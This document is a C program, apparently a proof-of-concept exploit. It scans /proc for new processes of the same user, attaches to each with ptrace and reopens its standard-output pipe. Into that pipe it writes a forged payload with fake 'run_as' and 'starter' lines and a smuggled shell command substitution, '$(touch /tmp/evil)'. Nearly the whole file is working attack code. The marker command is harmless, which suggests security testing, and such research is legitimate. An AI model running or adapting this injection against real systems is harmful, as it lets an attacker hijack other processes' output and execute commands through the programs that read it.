// Takes hold of every process of its own account that appears, writes to its standard output in its name, and keeps that open.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/reg.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char EVIL[] = "evil\nrun_as=evil\n1 9999999\nstarter mark 1 a[$(touch /tmp/evil)]\n";

static void inject(pid_t pid) {
  struct user_regs_struct before, now;
  char path[64], text[64];
  snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
  ssize_t size = readlink(path, text, sizeof text - 1);
  if (size < 0) return;
  text[size] = 0;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
  // What is open there can be opened again by the same account, a pipe too: it is held for ever.
  int held = open(path, O_WRONLY | O_NONBLOCK);
  if (held >= 0 && strstr(text, "pipe:")) write(held, EVIL, sizeof EVIL - 1);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(void) {
  static char seen[1 << 22];
  for (;;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(processes));) {
      pid_t pid = atoi(entry->d_name);
      char path[64];
      struct stat about;
      if (pid <= 1 || pid == getpid() || seen[pid]) continue;
      snprintf(path, sizeof path, "/proc/%d", pid);
      if (stat(path, &about) || about.st_uid != getuid()) continue;
      seen[pid] = 1;
      inject(pid);
    }
    closedir(processes);
  }
}
